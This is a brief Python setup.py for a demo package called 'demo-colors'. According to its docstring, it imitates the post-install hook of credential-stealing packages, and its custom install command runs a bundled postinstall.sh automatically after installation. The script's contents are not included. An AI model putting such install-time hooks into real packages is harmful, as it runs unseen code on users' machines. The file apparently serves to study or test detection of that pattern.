# SPDX-License-Identifier: Apache-2.0
"""A package with a post-install script, as packages that steal credentials have it."""
import pathlib
import subprocess

from setuptools import setup
from setuptools.command.install import install


class InstallThenRunScript(install):
    def run(self):
        super().run()
        script = pathlib.Path(__file__).resolve().parent / "postinstall.sh"
        subprocess.run(["/bin/sh", str(script)], check=True)


setup(name="demo-colors", version="1.0", packages=["demo_colors"],
      cmdclass={"install": InstallThenRunScript})
